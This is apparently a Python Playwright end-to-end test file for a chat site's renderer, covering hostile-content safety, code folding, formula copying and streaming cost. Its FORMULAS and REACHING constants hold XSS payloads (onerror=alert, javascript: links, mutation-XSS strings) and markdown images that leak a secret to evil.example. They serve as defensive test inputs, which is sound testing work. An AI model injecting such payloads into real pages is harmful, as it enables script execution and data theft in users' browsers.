"""Reading answers in a real browser: hostile text does nothing, code folds, formulas copy as source, and a long answer
costs little while it is written.
"""

from __future__ import annotations

import random
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Dialog, Page

from chatsite.chat.actions import quote
from chatsite.chat.rendering.stream import blocks, scope_of
from chatsite.chat.text import clean
from tests.browser import put
from tests.browser.steps import settled, sign_up, until
from tests.fleet import Fleet
from tests.unit.test_markdown import HOSTILE
from tests.unit.test_markdown_fuzz import HTML, URLS, document

pytestmark = [pytest.mark.browser, pytest.mark.e2e, pytest.mark.model]

WITNESS = """
window.seen = [];
document.addEventListener("securitypolicyviolation", (e) => window.seen.push(`${e.violatedDirective} ${e.blockedURI}`));
for (const name of ["alert", "confirm", "prompt"]) window[name] = () => window.seen.push(name);
"""
DIFFERING = """(answers) => {
  const place = document.createElement("div");
  return answers.flatMap((blocks, index) => {
    place.replaceChildren(document.createElement("i"));
    for (const html of blocks) place.lastChild.insertAdjacentHTML("beforebegin", html);
    place.lastChild.remove();
    const shown = document.querySelectorAll("article.bot .body")[index];
    return place.innerHTML === shown.innerHTML ? [] : [index];
  });
}"""
FORMULAS = (
    r"$\text{</annotation></math><img src=x onerror=alert(1)>}$ \(\href{javascript:alert(1)}{x}\)",
    "$$\n\\text{<style>*{display:none}</style><script>alert(1)</script>}\n$$",
    '<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=alert(1)>">',
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))",
)
REACHING = (
    "![x](https://evil.example/?q=SECRET)",
    "[![x](https://evil.example/a.png)](https://evil.example/b)",
    "![x][r]\n\n[r]: https://evil.example/c.png",
    "<img src=https://evil.example/d.png> <link rel=prefetch href=https://evil.example/e>",
)
LONG = "```python\n" + "".join(f"x{number} = {number}\n" for number in range(57)) + "```\n\nAfter it.\n"
MATH = (
    "Mass is $m$ and\n\n$$\nE = mc^2\n$$\n\n- item \\(a_1\\)\n\n\\[\n"
    + " + ".join(f"x_{{{number}}}" for number in range(60))
    + "\n\\]\n\nA note[^1].\n\n[^1]: Written *below*.\n"
)

PROSE = "\n\n".join(
    "A keeper writes down what the sea does, and **most of it** is waiting. The lamp is cleaned at noon, the "
    "clockwork is wound at four, and between the two there is time for letters that nobody collects before Friday. "
    f"In the year {year} the oil was changed for `gas`, which burns whiter, and the log says nothing else of it. Ships "
    "pass; *some* of them answer."
    for year in (1871, 1902, 1934)
)


def told(site: Fleet, page: Page, answers: Sequence[str]) -> put.Put:
    """A conversation of the page's person that holds these answers."""
    turns = [text for answer in answers for text in ("?", answer)]
    return put.conversation(site, page, *turns, title="Reading")


def assert_harmless(open_page: Callable[..., Page], site: Fleet, seeds: Sequence[int], num_answers: int) -> None:
    """25 documents of the renderer's own fuzz test an answer, so many answers a page, a page for each seed.

    The blocks of a stream, each put behind the one before as the page's script does it, make the page that was loaded.
    """
    page = open_page()
    page.add_init_script(WITNESS)
    faults: list[str] = []
    page.on("dialog", lambda dialog: faults.append(dialog.message) or dialog.dismiss())
    page.on("request", lambda request: faults.append(request.url) if is_outside(request.url, site) else None)
    for seed in seeds:
        rng = random.Random(seed)
        answers = ["\n\n".join(document(rng) for _ in range(25)) for _ in range(num_answers)]
        at = told(site, page, answers)
        page.goto(at.address + "?all=1")
        assert page.locator("article.bot .body").count() == len(answers)
        streamed = [blocks(clean(text), scope_of(pk)) for text, pk in zip(answers, at.message_ids[1::2], strict=True)]
        assert page.evaluate(DIFFERING, streamed) == []
        assert page.evaluate("window.seen") == []
        assert faults == []
        assert page.locator(".body :is(script, img, iframe, svg, style, form, object, link, input)").count() == 0


def test_random_documents_do_nothing_and_stream_to_what_is_loaded(
    open_page: Callable[..., Page], live_site: Fleet
) -> None:
    assert_harmless(open_page, live_site, [11], 8)


@pytest.mark.slow
@pytest.mark.timeout(1800)
def test_ten_thousand_random_documents_do_nothing(open_page: Callable[..., Page], live_site: Fleet) -> None:
    assert_harmless(open_page, live_site, range(0, 10_000, 1_000), 40)


def is_outside(url: str, site: Fleet) -> bool:
    return not url.startswith((site.url, "data:"))


def test_hostile_answers_do_nothing(open_page: Callable[..., Page], live_site: Fleet) -> None:
    """No dialog, no report of the content policy, no request to anywhere else, whatever is clicked on the way."""
    page = open_page()
    page.add_init_script(WITNESS)
    dialogs: list[str] = []
    requests: list[str] = []

    def dismiss(dialog: Dialog) -> None:
        dialogs.append(dialog.message)
        dialog.dismiss()

    page.on("dialog", dismiss)
    page.on("request", lambda request: requests.append(request.url))
    texts = [*HOSTILE, *FORMULAS, *REACHING, "\n\n".join(HTML), "\n\n".join(f"[x]({url}) <{url}>" for url in URLS)]
    page.goto(told(live_site, page, texts).address)
    shown = page.locator("article.bot .body")
    assert shown.count() == min(len(texts), 15)
    page.goto(page.url + "?all=1")
    assert shown.count() == len(texts)
    for act in ("wrap", "unfold"):
        for button in page.locator(f".body [data-act={act}]:visible").all():
            button.click()
    for link in page.locator(".body a[href^='#']").all():
        link.click()
    assert page.evaluate("window.seen") == []
    assert dialogs == []
    assert [url for url in requests if is_outside(url, live_site)] == []
    assert page.locator(".body :is(script, img, iframe, svg, style, form, object, link, input)").count() == 0
    assert page.locator(".body a.image").first.inner_text().endswith("(image at evil.example)")


def test_long_code_folds_and_opens(open_page: Callable[..., Page], live_site: Fleet) -> None:
    page = open_page()
    page.goto(told(live_site, page, [LONG]).address)
    code = page.locator("figure.code pre")
    folded = code.bounding_box()
    assert folded
    assert folded["height"] < 500
    page.get_by_role("button", name="Show all 57 lines").click()
    opened = code.bounding_box()
    assert opened
    assert opened["height"] > 2 * folded["height"]
    assert page.locator("[data-act=unfold]:visible").count() == 0


def test_long_code_is_whole_without_a_script(open_page: Callable[..., Page], live_site: Fleet) -> None:
    page = open_page(java_script_enabled=False)
    page.goto(told(live_site, page, [LONG]).address)
    whole = page.locator("figure.code pre").bounding_box()
    assert whole
    assert whole["height"] > 1000


def test_formulas_are_drawn_copy_as_source_and_stay_in_their_box(
    open_page: Callable[..., Page], live_site: Fleet
) -> None:
    page = open_page(viewport={"width": 360, "height": 740})
    page.goto(told(live_site, page, [MATH]).address)
    assert page.locator(".body math").count() == 4
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    assert page.evaluate("document.getElementById('log').scrollWidth <= document.getElementById('log').clientWidth")
    wide = page.locator("p.math.wide").nth(1)
    assert wide.evaluate("(box) => box.scrollWidth > box.clientWidth")
    copied = page.evaluate("""() => {
      getSelection().selectAllChildren(document.querySelector("article.bot .body"));
      const event = new ClipboardEvent("copy", { bubbles: true, cancelable: true, clipboardData: new DataTransfer() });
      document.dispatchEvent(event);
      return event.clipboardData.getData("text/plain");
    }""")
    assert "Mass is $m$ and" in copied
    assert "$$\nE = mc^2\n$$" in copied
    assert "item \\(a_1\\)" in copied


def test_footnotes_of_two_answers_lead_to_their_own(open_page: Callable[..., Page], live_site: Fleet) -> None:
    page = open_page()
    page.goto(told(live_site, page, [MATH, MATH]).address)
    links = page.locator("sup.footnote a")
    targets = [link.get_attribute("href") for link in links.all()]
    assert len(set(targets)) == 2
    for link in links.all():
        link.click()
        article = link.locator("xpath=ancestor::article")
        assert article.locator("div.footnote:target").count() == 1


def recite(site: Fleet, page: Page, text: str, folder: Path) -> str:
    """Have the person's next answer be `text`, at 100 tokens a second; the conversation's address."""
    source = folder / "text.md"
    source.write_text(text)
    name = page.locator(".me .name").text_content()
    address = site.manage(
        "shell",
        "-c",
        "from pathlib import Path\n"
        "from chatsite.accounts.models import User\n"
        "from chatsite.chat.actions import quote\n"
        "from chatsite.chat.models import Conversation\n"
        f"user = User.objects.get(username={name!r})\n"
        "chat = Conversation.objects.create(owner=user)\n"
        f"quote.quote(user, chat, Path({str(source)!r}).read_text())\n"
        "print(f'at /chat/{chat.pk}/')\n",
    )
    return address.rpartition("at ")[2].strip()


def test_what_streams_is_what_a_reload_in_the_middle_shows(
    open_page: Callable[..., Page], live_site: Fleet, tmp_path: Path
) -> None:
    page = open_page()
    page.goto(recite(live_site, page, quote.document(), tmp_path))
    other = page.context.new_page()
    until(page, lambda: page.locator(".body table").count() > 0)
    other.goto(page.url)
    assert other.locator(".body table").count() > 0
    settled(page)
    settled(other)
    assert page.inner_html("article.bot .body") == other.inner_html("article.bot .body")
    page.reload()
    assert page.inner_html("article.bot .body") == other.inner_html("article.bot .body")


@pytest.fixture
def quick_site() -> Iterator[Fleet]:
    with Fleet(env={"MAX_COMPLETION_TOKENS": "60000"}) as running:
        yield running


@pytest.mark.slow
@pytest.mark.timeout(600)
def test_48_kb_at_100_tokens_a_second_cost_little(browser: Browser, quick_site: Fleet, tmp_path: Path) -> None:
    """Finished blocks keep their nodes, the main thread is busy < 40 %, at most 6 bytes come for one of the text."""
    context = browser.new_context(base_url=quick_site.url)
    page = context.new_page()
    sign_up(page)
    text = (f"{quote.document()}\n{PROSE}\n\n" * 40)[: 48 * 1024]
    devtools = context.new_cdp_session(page)
    received = 0
    devtools.send("Network.enable")
    devtools.send("Performance.enable")

    def count(event: Any) -> None:
        nonlocal received
        received += event["dataLength"]

    address = recite(quick_site, page, text, tmp_path)
    page.goto(address)
    devtools.on("Network.dataReceived", count)
    page.evaluate("""() => {
      window.kept = new Map();
      const body = document.querySelector("article.bot .body");
      window.check = setInterval(() => {
        for (const node of body.children)
          if (!node.classList.contains("tail") && !window.kept.has(node)) window.kept.set(node, node.outerHTML);
      }, 250);
    }""")
    begun_at, begun = time.monotonic(), busy_seconds(devtools)
    until(page, lambda: page.locator("article.bot:not([data-generation])").count() == 1, 400)
    seconds = time.monotonic() - begun_at
    busy = busy_seconds(devtools) - begun
    lost, changed, kept = page.evaluate("""() => {
      clearInterval(window.check);
      const nodes = [...window.kept];
      const lost = nodes.filter(([node]) => !node.isConnected).length;
      return [lost, nodes.filter(([node, html]) => node.outerHTML !== html).length, nodes.length];
    }""")
    print(
        f"{seconds:.0f} s, busy {busy / seconds:.0%}, {received / len(text.encode()):.2f} bytes a byte, {kept} blocks"
    )
    assert kept > 100
    assert (lost, changed) == (0, 0)
    assert busy / seconds < 0.4
    assert received <= 6 * len(text.encode())
    context.close()


def busy_seconds(devtools: Any) -> float:
    """Of the page's main thread, on a processor: waiting for a busy machine is not the page's work."""
    found = devtools.send("Performance.getMetrics")["metrics"]
    return next(float(metric["value"]) for metric in found if metric["name"] == "ThreadTime")
